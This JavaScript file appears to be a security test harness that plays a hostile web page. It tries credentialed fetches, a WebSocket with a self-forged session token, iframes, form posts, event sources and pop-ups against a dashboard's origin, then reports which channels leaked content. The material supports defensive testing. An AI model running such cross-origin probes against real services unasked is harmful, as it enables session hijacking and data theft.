// A script of an evil page: tries all that a page can do to get at another origin, and tells which ways brought something.
// `url` is the dashboard's first page. Each way ends by itself or after `patienceMs`.

globalThis.plunder = async function plunder({ url, patienceMs }) {
  const origin = new URL(url).origin;
  const within = (work) =>
    Promise.race([
      work.catch(() => ""),
      new Promise((resolve) => {
        setTimeout(() => resolve(""), patienceMs);
      }),
    ]);
  const load = (element, result = () => "loaded") =>
    new Promise((resolve) => {
      element.addEventListener("load", () => resolve(result()));
      element.addEventListener("error", () => resolve(""));
      document.body.append(element);
    });
  const make = (name, attributes) => Object.assign(document.createElement(name), attributes);
  const read = async (init) => {
    const answer = await fetch(url, init);
    return answer.ok ? await answer.text() : "";
  };
  const inside = (frame) => frame.contentDocument?.body.innerHTML ?? "";
  const token = btoa(JSON.stringify({ session_id: "self-made", session_expiry: 4e9 })).replaceAll("=", "");
  const webSocket = (protocols) =>
    new Promise((resolve) => {
      const socket = new WebSocket(`${url.replace("http:", "ws:")}/ws`, protocols);
      socket.addEventListener("message", ({ data }) => resolve(`heard ${String(data)}`));
      socket.addEventListener("open", () => setTimeout(() => resolve("opened"), 0.9 * patienceMs));
      socket.addEventListener("close", () => resolve(""));
    });
  const post = async () => {
    const frame = make("iframe", { name: "posted" });
    const done = load(frame, () => inside(frame));
    const form = make("form", { method: "post", action: url, target: "posted" });
    document.body.append(form);
    form.submit();
    return await done;
  };
  const popUp = async () => {
    const opened = window.open(url, "_blank");
    await new Promise((resolve) => {
      setTimeout(resolve, patienceMs / 2);
    });
    const frames = opened?.closed === false ? opened.length : 0;
    opened?.close();
    return frames === 0 ? "" : `${frames} frames`;
  };
  const ways = {
    fetch: read({}),
    "fetch with cookies": read({ credentials: "include" }),
    "fetch that posts": read({ method: "POST", body: "x", credentials: "include" }),
    "fetch with a preflight": read({ method: "PUT", headers: { "x-mine": "1" }, credentials: "include" }),
    "WebSocket with a self-made token": webSocket(["bokeh", token]),
    WebSocket: webSocket([]),
    iframe: (() => {
      const frame = make("iframe", { src: url });
      return load(frame, () => inside(frame));
    })(),
    "sandboxed iframe": (() => {
      const frame = make("iframe", { src: url });
      frame.setAttribute("sandbox", "allow-scripts");
      return load(frame, () => inside(frame));
    })(),
    form: post(),
    script: load(make("script", { src: `${origin}/static/js/bokeh.min.js` })),
    image: load(make("img", { src: `${origin}/statics/images/favicon.ico` })),
    style: load(make("link", { rel: "stylesheet", href: `${origin}/statics/css/base.css` })),
    "event source": new Promise((resolve) => {
      const source = new EventSource(url, { withCredentials: true });
      source.addEventListener("open", () => resolve("opened"));
      source.addEventListener("error", () => resolve(""));
    }),
    "pop-up": popUp(),
  };
  const loot = await Promise.all(Object.entries(ways).map(async ([way, work]) => [way, await within(work)]));
  return Object.fromEntries(loot.filter(([, got]) => got !== ""));
};
